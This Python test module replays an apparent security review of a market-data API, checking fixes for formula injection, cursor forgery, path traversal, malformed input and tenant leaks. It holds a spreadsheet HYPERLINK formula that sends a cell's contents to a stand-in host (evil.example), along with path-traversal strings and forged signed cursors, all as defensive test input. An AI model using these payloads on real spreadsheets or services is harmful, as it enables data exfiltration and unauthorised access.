"""Every finding of the security review (``shared/reviews/2026-12-security-review.md``), replayed.

Each test is the review's reproduction, numbered as there; it failed before the fix. The hung
Redis (finding 6) is in ``test_redis_outage.py`` and the killed ingests (finding 7, and a
published day recorded as failed) in ``tests/ingest/test_recovery.py``.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import hmac
import io
import json
import uuid
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import orjson
import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient
from pydantic import SecretStr
from starlette.requests import Request
from typer.testing import CliRunner

from aurum import tenancy
from aurum.api.app import create_app
from aurum.api.security import client_address
from aurum.auth.access import PLATFORM, Access
from aurum.cli.main import app as cli
from aurum.config import Settings
from aurum.domain.identity import FORMULA_PREFIXES
from aurum.lake import Lake
from aurum.store import Store

DAY = date(2025, 10, 1)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def poisoned(path: Path, out: Path) -> Path:
    """The review's edit: a gas hub's name on both twin sheets becomes a formula."""
    book = openpyxl.load_workbook(path)
    for name in ("Fixed Prices - Mid", "Fixed Prices - BidAsk"):
        cell = book[name]["D7"]
        assert cell.value == "Dutch_TTF"
        cell.value, cell.data_type = FORMULA, "s"
    out.parent.mkdir(parents=True, exist_ok=True)
    book.save(out)
    return out


@pytest.fixture(scope="module")
def dev(build_lake, synthetic_days, tmp_path_factory) -> Iterator[tuple[TestClient, Settings]]:
    """Dev mode over one EUGP day, then a correction of it whose Dutch_TTF is a formula."""
    (original,) = synthetic_days("EUGP", DAY, 1)
    settings = build_lake("review-dev", [original])
    bad = poisoned(original, tmp_path_factory.mktemp("formula") / original.name)
    with TestClient(create_app(settings)) as client:
        with bad.open("rb") as handle:
            posted = client.post("/v1/ingest", files={"file": (bad.name, handle)})
        assert posted.status_code == 201, posted.text
        yield client, settings


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def formula_like(value: str) -> bool:
    try:
        float(value)
        return False  # a number keeps its sign
    except ValueError:
        return value.startswith(FORMULA_PREFIXES)


# -- 1. formula injection ----------------------------------------------------------------------


def test_1_ingest_flags_identities_that_look_like_formulas(dev):
    client, _ = dev
    checks = client.get(
        "/v1/qa/checks", params={"rule": "identity_formula_like", "asof": DAY.isoformat()}
    ).json()["data"]
    flagged = [c for c in checks if c["failed"]]
    assert len(flagged) == 1 and flagged[0]["severity"] == "warn"
    assert flagged[0]["failed"] > 0 and flagged[0]["stage"] == "parse"


def test_1_xlsx_exports_hold_text_never_formulas(dev):
    client, _ = dev
    answer = client.get(
        "/v1/exports/curve_observation",
        params={"asof": DAY.isoformat(), "vendor": "EUGP", "format": "xlsx"},
    )
    assert answer.status_code == 200
    sheet = zipfile.ZipFile(io.BytesIO(answer.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"HYPERLINK" in sheet
    book = openpyxl.load_workbook(io.BytesIO(answer.content))
    found = [c for row in book.active.iter_rows() for c in row if c.value == FORMULA]
    assert found and {c.data_type for c in found} == {"s"}


def test_1_csv_exports_and_answers_neutralise_text_not_numbers(dev):
    client, _ = dev
    exported = client.get(
        "/v1/exports/curve_observation",
        params={"asof": DAY.isoformat(), "vendor": "EUGP", "format": "csv"},
    ).text
    answered = client.get(
        "/v1/curves",
        params={"vendor": "EUGP", "asof": DAY.isoformat(), "format": "csv", "limit": 10_000},
    ).text
    for text in (exported, answered):
        rows = cells(text)
        assert not [v for row in rows for v in row if formula_like(v)]
        assert any(v == "'" + FORMULA for row in rows for v in row)
    # numbers are untouched: the CSV's values are the JSON's
    header, *rows = cells(answered)
    data = client.get(
        "/v1/curves", params={"vendor": "EUGP", "asof": DAY.isoformat(), "limit": 10_000}
    ).json()["data"]
    column = header.index("value")
    assert [float(r[column]) if r[column] else None for r in rows] == [d["value"] for d in data]


def test_1_cli_csv_is_neutralised_and_the_setting_turns_it_off(dev, tmp_path, monkeypatch):
    _, settings = dev
    monkeypatch.setenv("AURUM_HOME", str(settings.home))
    statement = "SELECT location, -1.5 AS n FROM curve_observation WHERE location LIKE '=%' LIMIT 1"
    safe = CliRunner().invoke(cli, ["sql", statement, "--format", "csv"])
    assert safe.exit_code == 0, safe.output
    assert cells(safe.stdout)[1] == ["'" + FORMULA, "-1.5"]
    monkeypatch.setenv("AURUM_FILES__NEUTRALISE_FORMULAS", "false")
    raw = CliRunner().invoke(cli, ["sql", statement, "--format", "csv"])
    assert cells(raw.stdout)[1] == [FORMULA, "-1.5"]


def test_1_cli_parse_writes_neutralised_csv(dev, tmp_path, synthetic_days):
    (original,) = synthetic_days("EUGP", DAY, 1)
    bad = poisoned(original, tmp_path / "in" / original.name)
    result = CliRunner().invoke(cli, ["parse", str(bad), "--out", str(tmp_path / "out"),
                                      "--format", "csv"])  # fmt: skip
    assert result.exit_code == 0, result.output
    text = (tmp_path / "out" / "curve_observation.csv").read_text()
    assert FORMULA.replace('"', '""') in text
    assert not [v for row in cells(text) for v in row if formula_like(v)]


# -- 2. unpublished data is never readable -------------------------------------------------------


@pytest.fixture(scope="module")
def held(build_lake, synthetic_days) -> Iterator[tuple[TestClient, Settings, dict[str, Any]]]:
    """A lake where the second day's run failed its jump gate: its branch is kept."""
    first, second = synthetic_days("EUGP", DAY, 2)
    settings = build_lake("review-held", [first])
    strict = settings.model_copy(
        update={"gates": settings.gates.model_copy(update={"jump": "fail", "jump_z": 1e-6})}
    )
    with TestClient(create_app(strict)) as client:
        with second.open("rb") as handle:
            posted = client.post("/v1/ingest", files={"file": (second.name, handle)})
        assert posted.status_code == 422, posted.text
        result = posted.json()["data"][0]
        assert result["status"] == "failed" and result["run"]["gate_failures"] == ["jump"]
        yield client, strict, result


def test_2_a_failed_gates_branch_is_not_readable(held):
    client, settings, result = held
    branch = result["run"]["branch"]
    table = Lake(settings).table("curve_observation")
    assert branch in table.metadata.refs  # kept for inspection, by the CLI and the catalog
    staged = table.metadata.refs[branch].snapshot_id
    for as_at in (branch, str(staged)):
        for path, params in (
            ("/v1/curves", {"vendor": "EUGP", "asof": result["asof"], "limit": 3}),
            ("/v1/metadata/asof-dates", {}),
        ):
            answer = client.get(path, params={**params, "as_at": as_at})
            assert answer.status_code == 404 and answer.json()["code"] == "snapshot_unknown"
    never = client.get("/v1/metadata/asof-dates", params={"as_at": "123456789"})
    assert never.status_code == 404 and never.json()["code"] == "snapshot_unknown"


def test_2_only_states_of_main_and_tags_are_readable(fresh_lake):
    client, settings = fresh_lake
    table = Lake(settings).table("curve_observation")
    main_states = {e.snapshot_id for e in table.metadata.snapshot_log}
    # an overwrite's first half (the day deleted, not yet appended) was never main's state
    between = [s.snapshot_id for s in table.metadata.snapshots if s.snapshot_id not in main_states]
    assert between
    for snapshot in between:
        answer = client.get("/v1/metadata/asof-dates", params={"as_at": str(snapshot)})
        assert answer.status_code == 404 and answer.json()["code"] == "snapshot_unknown"
    for tag in ("eod/EUGP/2025-10-01/v1", "eod/EUGP/2025-10-01/v2"):
        assert client.get("/v1/metadata/asof-dates", params={"as_at": tag}).status_code == 200


@pytest.fixture(scope="module")
def fresh_lake(build_lake, synthetic_days, tmp_path_factory):
    """One EUGP day and a correction of it (version 2)."""
    (original,) = synthetic_days("EUGP", DAY, 1)
    settings = build_lake("review-versions", [original])
    bad = poisoned(original, tmp_path_factory.mktemp("v2") / original.name)
    with TestClient(create_app(settings)) as client:
        with bad.open("rb") as handle:
            assert client.post("/v1/ingest", files={"file": (bad.name, handle)}).status_code == 201
        yield client, settings


def _forge(payload: dict[str, Any], key: bytes | None = None) -> str:
    raw = orjson.dumps(payload)
    text = base64.urlsafe_b64encode(raw).decode().rstrip("=")
    if key is None:
        return text
    mac = hmac.new(key, raw, hashlib.sha256).digest()[:16]
    return f"{text}.{base64.urlsafe_b64encode(mac).decode().rstrip('=')}"


def _first_page(client: TestClient) -> tuple[dict[str, Any], dict[str, str]]:
    params = {"vendor": "EUGP", "asof": DAY.isoformat(), "limit": 2}
    page = client.get("/v1/curves", params=params).json()
    return page, params


def test_2_cursors_are_signed(held):
    client, settings, result = held
    page, params = _first_page(client)
    cursor = page["meta"]["next_cursor"]
    assert client.get("/v1/curves", params={**params, "cursor": cursor}).status_code == 200
    digest = json.loads(base64.urlsafe_b64decode(cursor.split(".")[0] + "=="))["q"]
    staged = Lake(settings).table("curve_observation").metadata.refs[result["run"]["branch"]]
    # the review's forgery: an unsigned cursor naming the branch's snapshot
    for forged in (
        _forge({"s": staged.snapshot_id, "o": 0, "q": digest}),
        _forge({"s": staged.snapshot_id, "o": 0, "q": digest}, b"not the server's key!"),
        cursor.split(".")[0] + "." + _forge({"x": 1}).split(".")[0],
    ):
        answer = client.get("/v1/curves", params={**params, "cursor": forged})
        assert answer.status_code == 400 and answer.json()["code"] == "cursor_invalid"


def test_2_workers_and_restarts_share_the_key(build_lake, synthetic_days):
    settings = build_lake("review-keys", synthetic_days("EUGP", DAY, 1))
    with TestClient(create_app(settings)) as one, TestClient(create_app(settings)) as two:
        page, params = _first_page(one)
        cursor = page["meta"]["next_cursor"]
        assert two.get("/v1/curves", params={**params, "cursor": cursor}).status_code == 200
    key = settings.home / "cursor.key"
    assert key.stat().st_mode & 0o077 == 0  # readable by its owner only
    with TestClient(create_app(settings)) as restarted:
        assert restarted.get("/v1/curves", params={**params, "cursor": cursor}).status_code == 200


def test_2_a_rotated_key_keeps_accepting_the_cursors_it_signed(build_lake, synthetic_days):
    settings = build_lake("review-rotation", synthetic_days("EUGP", DAY, 1))
    old, new = "o" * 32, "n" * 32

    def app(key: str, previous: str | None = None) -> TestClient:
        api = settings.api.model_copy(
            update={"cursor_key": SecretStr(key),
                    "cursor_previous_key": SecretStr(previous) if previous else None}
        )  # fmt: skip
        return TestClient(create_app(settings.model_copy(update={"api": api})))

    with app(old) as before:
        page, params = _first_page(before)
    cursor = page["meta"]["next_cursor"]
    with app(new, previous=old) as rotating:
        assert rotating.get("/v1/curves", params={**params, "cursor": cursor}).status_code == 200
    with app(new) as rotated:
        refused = rotated.get("/v1/curves", params={**params, "cursor": cursor})
        assert refused.status_code == 400 and refused.json()["code"] == "cursor_invalid"


# -- 3. a stored object can never poison a list --------------------------------------------------


@pytest.mark.parametrize(
    ("body", "where"),
    [
        ('{"name":"bigint","spec":{"k":123456789012345678901234567890}}', "spec"),
        ('{"name":"negative","spec":{"k":[-9223372036854775809]}}', "spec"),
        ('{"name":"surr","spec":{"k":"\\ud800"}}', "spec"),
        ('{"name":"key","spec":{"\\udfff":1}}', "spec"),
        ('{"name":"\\ud800 name"}', "name"),
        ('{"name":"d","description":"\\udc00"}', "description"),
    ],
)
def test_3_values_no_renderer_can_write_are_refused_before_storing(dev, body, where):
    client, _ = dev
    before = client.get("/v1/scenarios").json()["meta"]["count"]
    answer = client.post(
        "/v1/scenarios", content=body, headers={"Content-Type": "application/json"}
    )
    assert answer.status_code == 400 and answer.json()["code"] == "parameter_invalid"
    assert answer.json()["errors"][0]["parameter"].startswith(where)
    listed = client.get("/v1/scenarios")
    assert listed.status_code == 200 and listed.json()["meta"]["count"] == before


def test_3_assumptions_and_patches_are_checked_too(dev):
    client, _ = dev
    made = client.post("/v1/scenarios", json={"name": f"s-{uuid.uuid4().hex[:6]}",
                                               "spec": {"base": {"vendors": ["RP"]}}}).json()
    sid = made["data"][0]["id"]
    json_ = {"Content-Type": "application/json"}
    for path, method, body in (
        (f"/v1/scenarios/{sid}/assumptions", "post", '{"name":"a","value":1e400}'),
        (f"/v1/scenarios/{sid}/assumptions", "post", '{"name":"a","value":99999999999999999999}'),
        (f"/v1/scenarios/{sid}", "patch", '{"spec":{"x":"\\ud83d"}}'),
    ):
        answer = getattr(client, method)(path, content=body, headers=json_)
        assert answer.status_code == 400, (path, body, answer.text)
    assert client.get(f"/v1/scenarios/{sid}/assumptions").json()["data"] == []


def test_3_data_stored_before_the_checks_still_lists(dev):
    client, settings = dev
    with (
        Store.connect(settings) as store,
        store.transaction(Access("default", actor="dev@default")) as tx,
    ):
        stored = tx.create_document(
            "curve_def", name=f"old-{uuid.uuid4().hex[:6]}", description="",
            spec={"big": 2**70, "text": "\ud800"},
        )  # fmt: skip
    listed = client.get("/v1/curve-defs")
    assert listed.status_code == 200
    (found,) = [d for d in listed.json()["data"] if d["id"] == stored.id]
    assert found["spec"]["big"] == 2**70
    assert client.get(f"/v1/curve-defs/{stored.id}").status_code == 200
    assert client.delete(f"/v1/curve-defs/{stored.id}").status_code == 204


# -- 4. repeated scalar parameters -----------------------------------------------------------------


def test_4_a_parameter_that_takes_one_value_refuses_two(dev):
    client, _ = dev
    url = "/v1/curves?asof=2025-10-01&limit=1&fields=vendor,location"
    for query in ("&vendor=EUGP&vendor=RP", "&vendor=RP&vendor=EUGP", "&limit=2"):
        answer = client.get(url + query)
        assert answer.status_code == 400 and answer.json()["code"] == "parameter_invalid"
        assert answer.json()["diagnostics"]["repeated"]
    # a list parameter takes several, in any order, as a set: one cache entry, one ETag
    keys = [row["curve_key"] for row in client.get("/v1/metadata/curves?limit=2").json()["data"]]
    first = client.get(f"/v1/curves?curve_key={keys[0]}&curve_key={keys[1]}&curve_key={keys[0]}")
    second = client.get(f"/v1/curves?curve_key={keys[1]}&curve_key={keys[0]}")
    assert first.status_code == second.status_code == 200
    assert first.headers["etag"] == second.headers["etag"]
    assert first.json()["data"] == second.json()["data"]


# -- 5. a store or catalog outage is 503, and says nothing of where ------------------------------


def _cut_settings(settings: Settings, proxy: Any, database: str, which: str) -> Settings:
    url = sa.make_url(database).set(host="127.0.0.1", port=proxy.port)
    text = url.render_as_string(hide_password=False)
    if which == "store":
        return settings.model_copy(
            update={"store": settings.store.model_copy(update={"url": text})}
        )
    return settings.model_copy(
        update={"lake": settings.lake.model_copy(update={"catalog_url": text})}
    )


def test_5_a_store_outage_is_503_with_retry_after_and_no_address(
    build_lake, synthetic_days, postgres_database, tcp_proxy
):
    proxy = tcp_proxy(("127.0.0.1", 5432))
    schema = f"t_{uuid.uuid4().hex[:10]}"
    admin = sa.create_engine(postgres_database, isolation_level="AUTOCOMMIT")
    with admin.connect() as connection:
        connection.execute(sa.text(f'CREATE SCHEMA "{schema}"'))
    database = f"{postgres_database}?options=-csearch_path%3D{schema}"
    base = build_lake("review-outage", synthetic_days("EUGP", DAY, 1))
    on = base.model_copy(update={"auth": base.auth.model_copy(update={"mode": "on", "cache_s": 0})})
    settings = _cut_settings(on, proxy, database, "store")
    with Store.connect(settings) as store:
        tenancy.create_tenant(store, PLATFORM, "acme", "Acme", [])
        token = tenancy.issue_key(
            store, PLATFORM, tenant_id="acme", role="aurum-ops", name="o"
        ).token
    with TestClient(create_app(settings)) as client:
        bearer = {"Authorization": f"Bearer {token}"}
        assert client.get("/v1/me", headers=bearer).status_code == 200
        proxy.cut()
        for credential in (token, "aurum_deadbeef_" + "A" * 43):
            for path in ("/v1/me", "/v1/curves", "/ready"):
                answer = client.get(path, headers={"Authorization": f"Bearer {credential}"})
                assert answer.status_code == 503, (path, answer.text)
                assert answer.headers["retry-after"].isdigit()
                problem = answer.json()
                assert problem["code"] == "store_unavailable"
                assert "operational store" in problem["detail"]
                assert str(proxy.port) not in answer.text and "postgres" not in answer.text
    with admin.connect() as connection:
        connection.execute(sa.text(f'DROP SCHEMA "{schema}" CASCADE'))
    admin.dispose()


def test_5_ready_names_the_dependency_that_is_down(tmp_path, postgres_database, tcp_proxy):
    proxy = tcp_proxy(("127.0.0.1", 5432))
    settings = Settings(
        home=tmp_path,
        lake={"namespace": f"t_{uuid.uuid4().hex[:10]}"},
        api={"freshness_s": 0.0},
    )
    settings = _cut_settings(settings, proxy, postgres_database, "catalog")
    with TestClient(create_app(settings)) as client:
        assert client.get("/ready").json()["checks"]["lake"]["ok"]
        proxy.cut()
        ready = client.get("/ready")
        assert ready.status_code == 503 and ready.headers["retry-after"].isdigit()
        checks = ready.json()["checks"]
        assert checks["lake"] == {"ok": False, "error": "catalog_unavailable"}
        assert checks["store"]["ok"]  # SQLite: up
        assert ready.json()["down"] == ["lake", "replica"]
        curves = client.get("/v1/curves", params={"vendor": "EUGP"})
        assert curves.status_code == 503 and curves.json()["code"] == "catalog_unavailable"
        assert str(proxy.port) not in curves.text


# -- 7 (the review's 8). failed authentication is rate-limited per client address ----------------


@pytest.fixture(scope="module")
def secured(build_lake, synthetic_days) -> Iterator[tuple[TestClient, Settings, dict[str, str]]]:
    """Authentication on; tenants acme and bolt, both entitled to EUGP; a key per role."""
    settings = build_lake(
        "review-auth", synthetic_days("EUGP", DAY, 1),
        auth={"mode": "on", "cache_s": 0},
        rate_limit={"per_s": 1000, "burst": 1000, "failed_auth_per_s": 0.5,
                    "failed_auth_burst": 5},
    )  # fmt: skip
    tokens = {}
    with Store.connect(settings) as store:
        for tenant in ("acme", "bolt"):
            tenancy.create_tenant(store, PLATFORM, tenant, tenant.title(), ["EUGP"])
            for role in ("aurum-ops", "aurum-analyst"):
                issued = tenancy.issue_key(store, PLATFORM, tenant_id=tenant, role=role, name=role)
                tokens[f"{tenant}/{role.removeprefix('aurum-')}"] = issued.token
    with TestClient(create_app(settings)) as client:
        yield client, settings, tokens


def test_7_failed_authentications_from_one_address_are_throttled(secured):
    _, settings, tokens = secured
    with TestClient(create_app(settings)) as client:  # its own buckets: the others stay open
        _throttled(client, tokens)


def _throttled(client: TestClient, tokens: dict[str, str]) -> None:
    auth = client.app.state.services.auth
    lookups = []
    verify = auth._lookup_key
    auth._lookup_key = lambda token: (lookups.append(token), verify(token))[1]
    try:
        codes = [
            client.get("/v1/me", headers={"Authorization": f"Bearer aurum_deadbeef_{i:043d}"})
            for i in range(12)
        ]
    finally:
        auth._lookup_key = verify
    assert [c.status_code for c in codes[:5]] == [401] * 5
    assert codes[-1].status_code == 429 and codes[-1].json()["code"] == "auth_rate_limited"
    assert int(codes[-1].headers["retry-after"]) >= 1
    assert len(lookups) <= 6  # refused before the store is asked
    # a request without any credential costs no lookup and is simply 401
    assert client.get("/v1/me").status_code == 401
    # while throttled, the address's uncached credentials wait too (nothing is looked up)
    valid = client.get("/v1/me", headers={"Authorization": f"Bearer {tokens['acme/ops']}"})
    assert valid.status_code == 429


def test_7_the_client_is_the_peer_unless_it_is_a_trusted_proxy():
    from ipaddress import ip_network

    def request(peer: str, forwarded: str | None) -> Request:
        headers = [(b"x-forwarded-for", forwarded.encode())] if forwarded else []
        return Request({"type": "http", "client": (peer, 1234), "headers": headers})

    proxies = [ip_network("10.0.0.0/8")]
    assert client_address(request("203.0.113.9", "1.2.3.4"), proxies) == "203.0.113.9"
    assert client_address(request("10.0.0.5", "1.2.3.4"), []) == "10.0.0.5"
    assert client_address(request("10.0.0.5", "1.2.3.4, 198.51.100.7"), proxies) == "198.51.100.7"
    assert client_address(request("10.0.0.5", "1.2.3.4, 10.0.0.9"), proxies) == "1.2.3.4"
    assert client_address(request("10.0.0.5", None), proxies) == "10.0.0.5"


# -- 8 (the review's 9-11). out-of-range input is 400 with a code ---------------------------------


@pytest.mark.parametrize(
    ("path", "params"),
    [
        ("/v1/curves/latest", {"on": "0001-01-01", "lookback_days": 3660}),
        ("/v1/curves/strips", {"custom": "9999-01..9999-12"}),
        ("/v1/curves", {"asof": "0001-01-01..9999-12-31"}),
        ("/v1/curves", {"month_from": "0001-01"}),
        ("/v1/curves/diff", {"asof_from": "0001-01-01", "asof_to": "9999-12-31"}),
        ("/v1/curves", {"vendor": "EUGP", "fields": "vendor,vendor", "format": "csv"}),
    ],
)
def test_8_out_of_range_parameters(dev, path, params):
    client, _ = dev
    answer = client.get(path, params=params)
    assert answer.status_code == 400, answer.text
    assert answer.json()["code"] == "parameter_invalid"


@pytest.mark.parametrize("offset", [99999999999999999999, 1e300, "5", True, 2.9, -1, 2**31, None])
def test_8_cursor_offsets_must_be_whole_and_in_range(dev, offset):
    client, _ = dev
    page, params = _first_page(client)
    cursor = page["meta"]["next_cursor"]
    fields = json.loads(base64.urlsafe_b64decode(cursor.split(".")[0] + "=="))
    key = client.app.state.services.cursors.keys[0]
    raw = json.dumps({**fields, "o": offset}).encode()  # json: orjson refuses big integers
    mac = base64.urlsafe_b64encode(hmac.new(key, raw, hashlib.sha256).digest()[:16])
    forged = base64.urlsafe_b64encode(raw).decode().rstrip("=") + "." + mac.decode().rstrip("=")
    answer = client.get("/v1/curves", params={**params, "cursor": forged})
    assert answer.status_code == 400 and answer.json()["code"] == "cursor_invalid"


@pytest.mark.parametrize("name", [".", "..", "EOD_X.xlsx/..", "", "./."])
def test_8_an_upload_name_that_names_no_file_is_400_and_leaves_nothing(dev, name):
    client, settings = dev
    answer = client.post("/v1/ingest", files={"file": (name, b"PK\x03\x04 not really")})
    assert answer.status_code == 400, answer.text
    assert answer.json()["code"] in ("upload_invalid", "parameter_invalid")
    uploads = settings.home / "uploads"
    assert not uploads.exists() or not list(uploads.iterdir())


# -- 9 (the review's 12-14). the rest ------------------------------------------------------------


def test_9_scratch_files_of_a_crashed_replica_build_are_swept_at_start(build_lake, synthetic_days):
    settings = build_lake("review-scratch", synthetic_days("EUGP", DAY, 1))
    serving = settings.home / "serving"
    serving.mkdir(parents=True, exist_ok=True)
    orphans = [serving / ".curve_observation-42.999999.tmp", serving / ".x.sqlite.1.tmp.wal"]
    for orphan in orphans:
        orphan.write_bytes(b"left by kill -9")
    with TestClient(create_app(settings)) as client:
        assert client.get("/v1/curves", params={"vendor": "EUGP", "limit": 1}).status_code == 200
        deadline = __import__("time").monotonic() + 30
        while any(o.exists() for o in orphans) and __import__("time").monotonic() < deadline:
            __import__("time").sleep(0.05)
    assert not any(o.exists() for o in orphans)
    assert list(serving.glob("curve_observation-*.duckdb"))  # the replica itself is there


def test_9_created_by_is_the_actor_never_the_bare_subject(secured):
    client, _, tokens = secured
    bearer = {"Authorization": f"Bearer {tokens['acme/analyst']}"}
    spec = {"base": {"vendors": ["RP"]}}
    made = client.post("/v1/scenarios", json={"name": "mine", "spec": spec},
                       headers=bearer).json()["data"][0]  # fmt: skip
    me = client.get("/v1/me", headers=bearer).json()
    assert made["created_by"] == f"{me['subject']}@acme"
    sid = made["id"]
    shock = {"type": "shock", "mode": "relative", "value": 1}
    added = client.post(f"/v1/scenarios/{sid}/assumptions", json={"name": "g", "value": shock},
                        headers=bearer).json()["data"][0]  # fmt: skip
    assert added["created_by"] == f"{me['subject']}@acme"


@pytest.mark.parametrize("vendor", ["x/../../etc", "..", "EU GP", "EUGP\x00"])
def test_9_the_export_vendor_is_a_code_never_a_path(dev, vendor):
    client, _ = dev
    answer = client.get(
        "/v1/exports/curve_observation", params={"asof": DAY.isoformat(), "vendor": vendor}
    )
    assert answer.status_code == 400 and answer.json()["code"] == "parameter_invalid"


def test_9_qa_checks_show_other_tenants_runs_no_more(secured, synthetic_days):
    client, _, tokens = secured
    (upload,) = synthetic_days("EUGP", date(2025, 10, 8), 1)
    acme = {"Authorization": f"Bearer {tokens['acme/ops']}"}
    bolt = {"Authorization": f"Bearer {tokens['bolt/analyst']}"}
    with upload.open("rb") as handle:
        posted = client.post("/v1/ingest", files={"file": (upload.name, handle)}, headers=acme)
    assert posted.status_code == 201, posted.text
    run_id = posted.json()["data"][0]["run_id"]
    mine = client.get("/v1/qa/checks", params={"run_id": run_id}, headers=acme).json()["data"]
    assert mine and {c["run_id"] for c in mine} == {run_id}
    theirs = client.get("/v1/qa/checks", headers=bolt).json()["data"]
    assert theirs and run_id not in {c["run_id"] for c in theirs}  # platform runs still listed
    assert client.get("/v1/qa/checks", params={"run_id": run_id}, headers=bolt).json()["data"] == []


def test_14_an_unexpected_error_is_a_500_problem_and_not_raised_to_the_server(dev, monkeypatch):
    client, _ = dev
    services = client.app.state.services

    def broken(*args: Any, **kwargs: Any) -> Any:
        raise RuntimeError("a bug")

    monkeypatch.setattr(services.store, "transaction", broken)
    # TestClient re-raises whatever reaches the server: answered here, nothing does
    answer = client.get("/v1/scenarios")
    assert answer.status_code == 500 and answer.json()["code"] == "internal_error"
    assert "a bug" not in answer.text and answer.headers["x-request-id"]
